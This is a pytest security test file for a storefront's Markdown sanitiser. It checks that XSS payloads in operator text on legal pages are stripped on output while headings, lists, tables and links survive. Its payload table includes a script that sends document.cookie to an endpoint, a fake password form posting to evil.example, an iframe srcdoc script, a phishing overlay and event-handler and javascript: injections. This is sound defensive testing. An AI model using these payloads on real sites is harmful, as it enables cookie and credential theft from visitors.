"""Operator Markdown on public pages: the attack payloads of the review never render, and
formatting and links still do. The legal page renders the sanitised HTML of what is stored,
so text saved before the sanitiser existed is cleaned on output."""

from __future__ import annotations

import pytest

from smplat.db import session_scope
from smplat.models.content import ContentBlock
from smplat.services import content
from smplat.services.content import safe_markdown
from smplat.ui.pages.storefront.legal import LegalState
from tests.security.helpers import tab

pytestmark = pytest.mark.integration

PAYLOADS = {
    "iframe-srcdoc": (
        '<iframe srcdoc="<script>parent.alert(document.cookie)</script>"></iframe>',
        ["<iframe", "srcdoc", "<script", "parent.alert"],
    ),
    "script": ("<script>fetch('/api/x?c='+document.cookie)</script>", ["<script", "fetch(", "document.cookie"]),
    "password-form": (
        '<form action="https://evil.example/steal"><input type="password" name="pw"><button>Sign in</button></form>',
        ["<form", "<input", "password", "evil.example", "<button"],
    ),
    "style-overlay": (
        '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Site moved</div>',
        ["style=", "position:fixed", "<div"],
    ),
    "onerror-img": ('<img src="x" onerror="alert(1)">', ["<img", "onerror", "src="]),
    "javascript-link": (
        '[Click](javascript:alert(1)) and <a href="javascript:alert(2)">raw</a>',
        ['href="javascript', "href='javascript", 'alert(2)"'],
    ),
    "event-attribute": ('<p onclick="alert(1)" onmouseover="alert(2)">hover</p>', ["onclick", "onmouseover"]),
}


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_attack_payloads_never_render(name):
    # given an operator text carrying the payload between ordinary Markdown
    payload, forbidden = PAYLOADS[name]
    text = f"# Imprint\n\nBefore\n\n{payload}\n\nAfter **bold**"

    # when it is rendered for a page
    html = safe_markdown(text)

    # then none of the dangerous markup is left, and the formatting around it is
    for needle in forbidden:
        assert needle.lower() not in html.lower(), (name, needle, html)
    assert "<h1>Imprint</h1>" in html
    assert "<strong>bold</strong>" in html


def test_formatting_and_links_stay_with_a_safe_rel():
    # given ordinary operator Markdown with a list, a table, a quote and links
    text = (
        "## Contact\n\n- *Email*: [mail us](mailto:shop@example.com)\n- Web: [site](https://example.com/x)\n\n"
        "| Day | Hours |\n|---|---|\n| Mon | 9-17 |\n\n> Quoted `code`"
    )

    # when it is rendered
    html = safe_markdown(text)

    # then the structure is kept and every link gets rel="noopener noreferrer nofollow"
    assert "<h2>Contact</h2>" in html
    assert "<em>Email</em>" in html
    assert '<a href="mailto:shop@example.com" rel="noopener noreferrer nofollow">mail us</a>' in html
    assert '<a href="https://example.com/x" rel="noopener noreferrer nofollow">site</a>' in html
    assert "<td>Mon</td>" in html and "<blockquote>" in html and "<code>code</code>" in html


async def test_stored_imprint_with_payloads_is_sanitised_on_output(db_url):
    # given an imprint saved straight into the table (as before the sanitiser existed)
    body = "Owner: **Jane**\n\n" + "\n\n".join(p for p, _ in PAYLOADS.values())
    with session_scope() as db:
        db.add(ContentBlock(key=content.LEGAL_KEYS["imprint"], title="Imprint", body=body))

    # when a visitor opens /imprint
    state = await tab(path="/imprint").get_state(LegalState)
    state.load_legal()

    # then the page holds the sanitised HTML, and the stored row is unchanged
    assert state.loaded is True
    assert "<strong>Jane</strong>" in state.body_html
    for _payload, forbidden in PAYLOADS.values():
        for needle in forbidden:
            assert needle.lower() not in state.body_html.lower()
    assert state.body_html == safe_markdown(body)
    with session_scope() as db:
        stored = db.query(ContentBlock).filter_by(key=content.LEGAL_KEYS["imprint"]).one()
        assert stored.body == body
